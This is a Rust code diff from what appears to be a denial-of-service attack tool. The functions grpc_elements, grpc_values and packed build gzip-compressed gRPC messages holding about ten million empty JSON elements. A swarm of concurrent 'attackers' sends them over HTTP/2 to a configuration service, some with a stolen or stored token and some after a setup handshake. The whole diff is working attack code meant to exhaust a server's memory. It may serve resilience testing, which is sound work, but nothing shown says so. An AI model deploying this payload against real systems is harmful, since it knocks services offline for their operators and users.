@@ -7,7 +7,7 @@ use flate2::Compression;
 use flate2::write::GzEncoder;
 use futures_util::future::BoxFuture;
 
-use super::super::http2::{Http2, STREAM, UNARY, message, payload};
+use super::super::http2::{Http2, UNARY, message, payload};
 use super::super::sessions::{field, socket, text_head, varint};
 use super::super::target::{Door, Target};
 use super::swarm;
@@ -18,37 +18,41 @@ const ELEMENTS: usize = 10_800_000;
 const HELD: usize = 8_000_000;
 const HELD_AS_JSON: usize = 5_000_000;
 
-/// Compressed messages with very many empty elements, before the connection is set up.
+/// Compressed messages with very many empty elements.
 pub(in super::super) fn grpc_elements(target: Arc<Target>) -> BoxFuture<'static, ()> {
-    let json = repeated(r#"{"configListenContexts":["#, "{}", ELEMENTS, "]}");
-    packed(target, UNARY, "ConfigBatchListenRequest", json)
+    packed(target, "ConfigBatchListenRequest", &repeated(r#"{"configListenContexts":["#, "{}", ELEMENTS, "]}"))
 }
 
 /// The same in a member that may be anything.
 pub(in super::super) fn grpc_values(target: Arc<Target>) -> BoxFuture<'static, ()> {
-    let json = repeated(r#"{"abilityTable":["#, "[]", ELEMENTS, "]}");
-    packed(target, UNARY, "ConfigQueryRequest", json)
+    packed(target, "ConfigQueryRequest", &repeated(r#"{"abilityTable":["#, "[]", ELEMENTS, "]}"))
 }
 
-fn packed(target: Arc<Target>, path: &'static str, class: &'static str, json: String) -> BoxFuture<'static, ()> {
-    Box::pin(async move {
-        let packed =
-            [None, target.token.as_deref()].map(|token| Arc::new(gzip(&payload(class, token, json.as_bytes()))));
-        drop(json);
-        swarm(target, 4, move |target, attacker| {
-            let [without, with] = &packed;
-            let packed = Arc::clone(if attacker.is_multiple_of(2) { with } else { without });
-            async move {
-                let mut connection = Http2::open(&target, 0xffff).await?;
-                let stream = connection.begin(path, true).await?;
-                connection.say(stream, &message(true, &packed), path != STREAM).await?;
-                // Until the node has answered, or closes.
-                while connection.hear().await?.1 != stream {}
-                Ok(())
+/// A message of this class by attackers who are set up, and as a class that is answered before by those who are not.
+fn packed(target: Arc<Target>, class: &str, json: &str) -> BoxFuture<'static, ()> {
+    let packed = |class, token| -> Arc<[u8]> { gzip(&payload(class, token, json.as_bytes())).into() };
+    let before = packed("ServerCheckRequest", None);
+    let [without, with] = [None, target.token.as_deref()].map(|token| packed(class, token));
+    Box::pin(swarm(target, 8, move |target, attacker| {
+        let is_set_up = attacker % 4 < 2;
+        let packed = match (is_set_up, attacker.is_multiple_of(2)) {
+            (false, _) => &before,
+            (true, true) => &with,
+            (true, false) => &without,
+        };
+        let packed = Arc::clone(packed);
+        async move {
+            let mut connection = Http2::open(&target, 0xffff).await?;
+            if is_set_up {
+                connection.set_up().await?;
             }
-        })
-        .await;
-    })
+            let stream = connection.begin(UNARY, true).await?;
+            connection.say(stream, &message(true, &packed), true).await?;
+            // Until the node has answered, or closes.
+            while connection.hear().await?.1 != stream {}
+            Ok(())
+        }
+    }))
 }
 
 /// A hello with very many empty messages.
